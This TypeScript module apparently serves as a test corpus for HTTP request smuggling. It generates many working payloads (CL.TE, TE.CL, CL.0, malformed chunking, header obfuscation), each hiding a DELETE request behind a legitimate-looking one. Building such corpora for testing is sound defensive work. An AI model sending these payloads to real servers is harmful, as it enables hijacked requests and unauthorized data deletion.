/**
 * Published ways to hide a request inside another (RFC 9112, section 11.2; Linhart et al. 2005; Kettle 2019, 2022,
 * 2025): two programs on the path should disagree about where a body ends. Each contains the start of a DELETE that
 * waits for the next client's headers.
 */
export type Attack = {
  name: string
  /** The attacker's bytes, in one piece. */
  bytes: Buffer
}

export const SMUGGLED = 'smuggled'

const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** The hidden request: its last header swallows the first line of what comes after it. */
const hidden = `DELETE /v2/similar-images/categories/general_v3/pets/one HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${SMUGGLED}\r\nX-Ignore: `
/** The same as a complete request, for places where nothing must be added. */
const whole = `DELETE /v2/similar-images/categories/general_v3/pets/one HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${SMUGGLED}\r\n\r\n`

type Head = { method?: string; path?: string; headers: readonly string[]; lineEnd?: string; version?: string }

function head({ method = 'POST', path = '/v2/tags', headers, lineEnd = '\r\n', version = 'HTTP/1.1' }: Head): string {
  return [`${method} ${path} ${version}`, 'Host: x', ...headers, '', ''].join(lineEnd)
}

const form = 'Content-Type: application/x-www-form-urlencoded'
const length = (text: string) => `Content-Length: ${text.length}`
const chunk = (text: string, { extension = '', lineEnd = '\r\n' } = {}) =>
  `${text.length.toString(16)}${extension}${lineEnd}${text}${lineEnd}`
const attack = (name: string, text: string): Attack => ({ name, bytes: latin1(text) })

/** Ways to write the header that one program reads and another does not. */
const encodings: Readonly<Record<string, readonly string[]>> = {
  plain: ['Transfer-Encoding: chunked'],
  'a blank before the colon': ['Transfer-Encoding : chunked'],
  'a tab after the colon': ['Transfer-Encoding:\tchunked'],
  'no blank': ['Transfer-Encoding:chunked'],
  'a vertical tab': ['Transfer-Encoding: \x0bchunked'],
  'a zero byte': ['Transfer-Encoding: chunked\0'],
  'a letter before': ['Transfer-Encoding: xchunked'],
  'a quoted value': ['Transfer-Encoding: "chunked"'],
  'capital letters': ['TRANSFER-ENCODING: CHUNKED'],
  'an underscore': ['Transfer_Encoding: chunked'],
  'identity first': ['Transfer-Encoding: identity, chunked'],
  'identity last': ['Transfer-Encoding: chunked, identity'],
  'another one before': ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked'],
  'another one after': ['Transfer-Encoding: chunked', 'Transfer-Encoding: x'],
  'an empty one after': ['Transfer-Encoding: chunked', 'Transfer-Encoding:'],
  'a folded line': ['Transfer-Encoding:', ' chunked'],
  'behind a folded line': ['X: y', ' Transfer-Encoding: chunked'],
  'behind a bare line feed': ['X: y\nTransfer-Encoding: chunked'],
  'behind a bare carriage return': ['X: y\rTransfer-Encoding: chunked'],
  'a comma': ['Transfer-Encoding: ,chunked'],
  'a parameter': ['Transfer-Encoding: chunked;q=1'],
}

function* bothLengths(): Generator<Attack> {
  for (const [way, lines] of Object.entries(encodings)) {
    const early = `0\r\n\r\n${hidden}`
    yield attack(`CL.TE, ${way}`, head({ headers: [form, length(early), ...lines] }) + early)
    const late = `${chunk(`x=y\r\n${hidden}`)}0\r\n\r\n`
    const until = late.slice(0, late.indexOf('DELETE'))
    yield attack(`TE.CL, ${way}`, head({ headers: [form, ...lines, length(until)] }) + late)
  }
}

/** Numbers that programs read differently. */
function* oddLengths(): Generator<Attack> {
  const [count, more] = [hidden.length, hidden.length + 5]
  const lengths: readonly (readonly string[])[] = [
    ['Content-Length: 0', `Content-Length: ${count}`],
    [`Content-Length: ${count}`, 'Content-Length: 0'],
    [`Content-Length: 0, ${count}`],
    [`Content-Length: +${count}`],
    [`Content-Length: -${count}`],
    [`Content-Length: 0x${count.toString(16)}`],
    [`Content-Length: ${count}\x0b`],
    [`Content-Length : ${count}`],
    [`Content-Length: ${count}.0`],
    ['Content-Length: 18446744073709551616'],
    [`Content_Length: ${count}`],
    [`Content-Length: 0${more}`],
    ['X: y\nContent-Length: 0', `Content-Length: ${count}`],
  ]
  for (const lines of lengths) yield attack(lines.join(' | '), head({ headers: [form, ...lines] }) + hidden)
}

/** Bodies that a program may leave unread: where none is expected, or where the answer comes first. */
function* unreadBodies(): Generator<Attack> {
  const body = length(hidden)
  yield attack('CL.0, GET', head({ method: 'GET', path: '/v2/usage', headers: [body] }) + hidden)
  yield attack('CL.0, HEAD', head({ method: 'HEAD', path: '/healthz', headers: [body] }) + hidden)
  yield attack('CL.0, OPTIONS', head({ method: 'OPTIONS', headers: [body] }) + hidden)
  yield attack('CL.0, DELETE', head({ method: 'DELETE', path: '/v2/uploads/none', headers: [body] }) + hidden)
  yield attack('CL.0, no such address', head({ path: '/none', headers: [form, body] }) + hidden)
  yield attack('CL.0, a body of unknown kind', head({ headers: ['Content-Type: x/y', body] }) + hidden)
  yield attack('CL.0, an upgrade', head({ headers: [form, body, 'Connection: upgrade', 'Upgrade: h2c'] }) + hidden)
  yield attack('CL.0, length named hop by hop', head({ headers: [form, body, 'Connection: Content-Length'] }) + hidden)
  yield attack('Expect', head({ headers: [form, body, 'Expect: 100-continue'] }) + hidden)
  yield attack('Expect, unknown', head({ headers: [form, body, 'Expect: y 100-continue'] }) + hidden)
  const chunked = `${chunk(hidden)}0\r\n\r\n`
  const coded = 'Transfer-Encoding: chunked'
  yield attack('TE.0, GET', head({ method: 'GET', path: '/v2/usage', headers: [coded] }) + chunked)
  yield attack('TE.0, OPTIONS', head({ method: 'OPTIONS', headers: [coded] }) + chunked)
  yield attack('chunks in HTTP/1.0', head({ version: 'HTTP/1.0', headers: [form, coded] }) + chunked)
  yield attack('HTTP/0.9', `GET /v2/usage\r\n${hidden}`)
  yield attack('a multipart body without its end', multipart(`--B\r\n${part}pixels\r\n${whole}${hidden}`))
  yield attack('a multipart body that ends early', multipart(`--B\r\n${part}pixels\r\n--B--\r\n${hidden}`))
  yield attack('a multipart body whose end is cut', multipart(`--B\r\n${part}pixels\r\nB--\r\n${hidden}`))
}

const part = 'Content-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n'
const multipart = (body: string) =>
  head({ headers: ['Content-Type: multipart/form-data; boundary=B', length(body)] }) + body

/** Chunks whose sizes, extensions and ends programs read differently. */
function* oddChunks(): Generator<Attack> {
  const coded = head({ headers: [form, 'Transfer-Encoding: chunked'] })
  const size = hidden.length.toString(16)
  const chunks: Readonly<Record<string, string>> = {
    'an extension that ends by a line feed': `2;\nxx\r\n${size}\r\n0\r\n\r\n${hidden}\r\n0\r\n\r\n`,
    'an extension with a carriage return': `2;\rxx\r\n0\r\n\r\n${hidden}`,
    'an extension of the last chunk': `0;a=b\n\r\n${hidden}`,
    'a size that ends by a line feed': `2\nxx\n0\n\n${hidden}`,
    'no line end after the data': `2\r\nxx0\r\n\r\n${hidden}`,
    'two letters too many after the data': `2\r\nxxyy0\r\n\r\n${hidden}`,
    'a size of more than 64 bits': `10000000000000000${size}\r\n${hidden}\r\n0\r\n\r\n`,
    'a size with 0x': `0x2\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a size with a sign': `+2\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a negative size': `-2\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a size with an underscore': `0_2\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a blank before the size': ` 2\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a blank after the size': `2 \r\nxx\r\n0\r\n\r\n${hidden}`,
    'no size': `\r\nxx\r\n0\r\n\r\n${hidden}`,
    'a trailer with a length': `0\r\nContent-Length: ${size}\r\n\r\n${hidden}`,
    'a trailer with credentials': `0\r\nAuthorization: Basic eDp5\r\n\r\n${hidden}`,
    'a last chunk without its end': `0\r\n${hidden}`,
  }
  for (const [name, body] of Object.entries(chunks)) yield attack(`chunks: ${name}`, coded + body)
}

/** Lines and addresses that a program might repair. */
function* oddLines(): Generator<Attack> {
  const body = `image_url=http%3A%2F%2Fpictures.example%2Fnone&x=`
  const posted = (tail: string) => head({ headers: [form, length(body + tail)] }) + body + tail
  for (const path of ['/v2/similar-images/colors/файлы/one', '/v2/similar-images/colors/my photo/one']) {
    const start = Buffer.from(`DELETE ${path} HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${SMUGGLED}\r\nX: `).toString(
      'latin1',
    )
    yield attack(`an address that is not encoded at the end of a body: ${path}`, posted(start))
    yield attack(`an address that is not encoded after a body: ${path}`, posted('') + start)
    yield attack(`the same, then what is no HTTP: ${path}`, `${posted(`${start}\r\n\r\n`)}G\x01RBAGE\r\n\r\n`)
  }
  yield attack('bare line feeds', head({ headers: [form, length(hidden)], lineEnd: '\n' }) + hidden)
  yield attack('bare carriage returns', head({ headers: [form, length(hidden)], lineEnd: '\r' }) + hidden)
  yield attack('a blank line before', `\r\n\r\n${posted('')}${hidden}`)
  yield attack('an absolute address', head({ path: 'http://y/v2/tags', headers: [form, length(hidden)] }) + hidden)
  yield attack('two hosts', head({ headers: ['Host: y', form, length(hidden)] }) + hidden)
  yield attack('pipelined bodies', posted('') + posted(hidden) + posted('') + hidden)
  yield attack('a pipelined request behind a refused one', `${head({ headers: [form] })}${hidden}`)
}

export const attacks: readonly Attack[] = [
  ...bothLengths(),
  ...oddLengths(),
  ...unreadBodies(),
  ...oddChunks(),
  ...oddLines(),
]
